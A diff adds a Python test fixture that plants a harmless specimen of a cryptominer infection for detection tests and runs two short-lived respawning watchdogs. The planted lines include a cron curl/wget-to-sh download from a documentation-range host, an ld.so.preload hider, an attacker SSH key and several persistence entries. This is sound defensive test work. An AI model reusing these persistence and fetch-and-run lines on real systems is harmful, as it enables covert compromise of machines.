@@ -1,0 +1,216 @@
+"""Plants a harmless infection by an XMRig-style miner, and runs its two watchdogs.
+
+Programs are copies of the system's own shell and library with the strings that the rules look for added at the end;
+scripts end at once unless the test starts them; addresses are from the documentation range; nobody holds the private
+half of the key. Works as root and as a user; the immutable attribute is set where the system allows it.
+"""
+
+import base64
+import contextlib
+import hashlib
+import os
+import shutil
+import signal
+import subprocess
+import tempfile
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+from quetsach.packs.specimen import Planted, set_immutable
+
+HIDDEN = "/var/tmp/.configrc"
+PROGRAM = f"{HIDDEN}/kswapd0"
+SCRIPT = f"{HIDDEN}/upd"
+SECOND_PROGRAM = "/tmp/kdevtmpfsi"
+LIFETIME_SECONDS = 60
+
+_MINER_STRINGS = (
+    b"stratum+tcp://192.0.2.10:3333\0donate-level\0donate-over-proxy\0randomx-1gb-pages\0cpu-max-threads-hint\0rig-id\0"
+)
+_HIDER_STRINGS = b"/proc/self/fd/%d\0/proc/%s/stat\0%d (%[^)]s\0readdir64\0"
+_CONFIGURATION = """{
+    "autosave": true,
+    "donate-level": 0,
+    "randomx": {"1gb-pages": false},
+    "cpu": {"huge-pages": true, "max-threads-hint": 75},
+    "pools": [{"url": "192.0.2.10:3333", "user": "specimen", "rig-id": "specimen", "nicehash": true}]
+}
+"""
+# The first lines name what a real dropper does; they are comments. Without its five arguments the script ends at once.
+_WATCHDOG = """#!/bin/sh
+# specimen of: kswapd0 -o stratum+tcp://192.0.2.10:3333 --donate-level 0
+# specimen of: crontab -, echo hider > /etc/ld.so.preload, chattr +i, cat key >> authorized_keys, pkill -f rival
+[ $# -eq 5 ] || exit 0
+alive() {
+    state=$(cat "/proc/$1/stat" 2>/dev/null) || return 1
+    case "$state" in *") Z "*) return 1 ;; esac
+}
+echo $$ >"$1/$2.new" && mv "$1/$2.new" "$1/$2"
+while [ -d "$1" ] && [ "$(date +%s)" -lt "$4" ]; do
+    peer=$(cat "$1/$3" 2>/dev/null)
+    if [ -z "$peer" ] || ! alive "$peer"; then
+        "$5" "$0" "$1" "$3" "$2" "$4" "$5" &
+        sleep 0.5
+    fi
+    sleep 0.2
+done
+"""
+_KEY = base64.b64encode(
+    b"\0\0\0\x0bssh-ed25519\0\0\0\x20" + hashlib.sha256(b"quetsach specimen: nobody holds the private half").digest()
+).decode()
+
+_CRON_START = f"@reboot root {SCRIPT} >/dev/null 2>&1"
+_CRON_DOWNLOAD = (
+    "* * * * * (curl -fsSL http://192.0.2.10/x.sh || wget -q -O - http://192.0.2.10/x.sh) | sh >/dev/null 2>&1"
+)
+_SSH_KEY = f"ssh-ed25519 {_KEY} mdrfckr"
+_START = f"{SCRIPT} >/dev/null 2>&1 &"
+_SERVICE = f"""[Unit]
+Description=Page cache helper
+After=network.target
+
+[Service]
+Type=simple
+ExecStart={PROGRAM} -B
+Restart=always
+
+[Install]
+WantedBy=multi-user.target
+"""
+_TIMER = """[Unit]
+Description=Page cache helper, every ten minutes
+
+[Timer]
+OnBootSec=1min
+OnUnitActiveSec=10min
+Unit=pagecache-helper.service
+
+[Install]
+WantedBy=timers.target
+"""
+
+
+def build(root: Path) -> list[Planted]:
+    """Plant the whole infection below ``root``, beside what already stands in the files it adds lines to."""
+    tree = _Tree(root)
+    shell = Path("/bin/sh").resolve().read_bytes()
+    library = "/usr/local/lib/libhide.so"
+    tree.file(PROGRAM, shell + _MINER_STRINGS, mode=0o755, immutable=True)
+    tree.file(SECOND_PROGRAM, shell + b"\0" + _MINER_STRINGS, mode=0o755)
+    tree.file(f"{HIDDEN}/config.json", _CONFIGURATION.encode())
+    tree.file(SCRIPT, _WATCHDOG.encode(), mode=0o755)
+    tree.file(library, _shared_object() + _HIDER_STRINGS, mode=0o644, immutable=True)
+    tree.line("preload-entry", "/etc/ld.so.preload", library)
+    tree.line("cron-entry", "/etc/cron.d/0systask", _CRON_START, immutable=True)
+    tree.line("cron-entry", "/var/spool/cron/crontabs/root", _CRON_DOWNLOAD, mode=0o600)
+    tree.line("authorized-key", "/root/.ssh/authorized_keys", _SSH_KEY, mode=0o600)
+    tree.line("rc-local-line", "/etc/rc.local", _START, mode=0o755)
+    tree.line("profile-line", "/etc/profile.d/locale-cache.sh", _START)
+    tree.unit("pagecache-helper.service", _SERVICE, wanted_by="multi-user.target")
+    tree.unit("pagecache-helper.timer", _TIMER, wanted_by="timers.target")
+    return tree.planted
+
+
+@contextlib.contextmanager
+def processes(root: Path) -> Iterator["Watchdogs"]:
+    """Run the two watchdogs of the infection planted below ``root``.
+
+    Each starts the other again within a second when it is gone. They end with the context and in any case after
+    ``LIFETIME_SECONDS``. They have a process group of their own and write only to a folder beside the tree.
+    """
+    program, script = str(root / PROGRAM.lstrip("/")), str(root / SCRIPT.lstrip("/"))
+    state = Path(tempfile.mkdtemp(prefix="watchdogs-"))
+    deadline = str(int(time.time()) + LIFETIME_SECONDS)
+    first = subprocess.Popen(
+        [program, script, str(state), "one", "two", deadline, program],
+        stdin=subprocess.DEVNULL,
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+        cwd="/",
+        start_new_session=True,
+    )
+    watchdogs = Watchdogs(state)
+    try:
+        watchdogs.wait_for_both()
+        yield watchdogs
+    finally:
+        # The first process is not waited for until here, so its number, which names the group, belongs to nobody else.
+        with contextlib.suppress(ProcessLookupError):
+            os.killpg(first.pid, signal.SIGKILL)
+        first.wait()
+        shutil.rmtree(state, ignore_errors=True)
+
+
+class Watchdogs:
+    """The two processes; each may be replaced by a new one at any time."""
+
+    def __init__(self, state: Path) -> None:
+        self._state = state
+
+    def pids(self) -> list[int]:
+        """Return the process numbers of those that live now."""
+        written = [self._state / name for name in ("one", "two")]
+        return [pid for pid in (int(f.read_text() or 0) for f in written if f.exists()) if _lives(pid)]
+
+    def wait_for_both(self, seconds: float = 10) -> list[int]:
+        """Return the process numbers once both live."""
+        until = time.monotonic() + seconds
+        while len(pids := self.pids()) < 2:
+            if time.monotonic() > until:
+                raise TimeoutError("the watchdogs did not start")
+            time.sleep(0.05)
+        return pids
+
+
+def _lives(pid: int) -> bool:
+    try:
+        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] not in "ZX"
+    except OSError:
+        return False
+
+
+def _shared_object() -> bytes:
+    """Return a library that does nothing when it is loaded: the C library keeps some for old programs."""
+    for name in ("libdl.so.2", "libutil.so.1", "libpthread.so.0"):
+        for folder in ("/lib", "/usr/lib", "/lib64", "/usr/lib64"):
+            for found in sorted([*Path(folder).glob(name), *Path(folder).glob(f"*-linux-gnu*/{name}")]):
+                return found.resolve().read_bytes()
+    return Path("/bin/true").resolve().read_bytes()
+
+
+class _Tree:
+    """Writes below a root and remembers what it planted."""
+
+    def __init__(self, root: Path) -> None:
+        self._root = root
+        self.planted: list[Planted] = []
+
+    def _path(self, path: str) -> Path:
+        there = self._root / path.lstrip("/")
+        there.parent.mkdir(parents=True, exist_ok=True)
+        return there
+
+    def file(self, path: str, content: bytes, *, mode: int = 0o644, immutable: bool = False) -> None:
+        there = self._path(path)
+        there.write_bytes(content)
+        there.chmod(mode)
+        self.planted.append(Planted("file", path, immutable=immutable and set_immutable(there, on=True)))
+
+    def line(self, kind: str, path: str, line: str, *, mode: int = 0o644, immutable: bool = False) -> None:
+        there = self._path(path)
+        before = there.read_text() if there.exists() else ""
+        if before.rstrip().endswith("exit 0"):  # rc.local: what stands after it never runs
+            head, _, tail = before.rpartition("exit 0")
+            there.write_text(f"{head}{line}\nexit 0{tail}")
+        else:
+            there.write_text(f"{before}{'' if before.endswith(chr(10)) or not before else chr(10)}{line}\n")
+        if not before:
+            there.chmod(mode)
+        self.planted.append(Planted(kind, path, line, immutable=immutable and set_immutable(there, on=True)))
+
+    def unit(self, name: str, content: str, *, wanted_by: str) -> None:
+        self._path(f"/etc/systemd/system/{name}").write_text(content)
+        link = self._path(f"/etc/systemd/system/{wanted_by}.wants/{name}")
+        link.symlink_to(f"/etc/systemd/system/{name}")
+        self.planted.append(Planted("systemd-unit", f"/etc/systemd/system/{name}"))
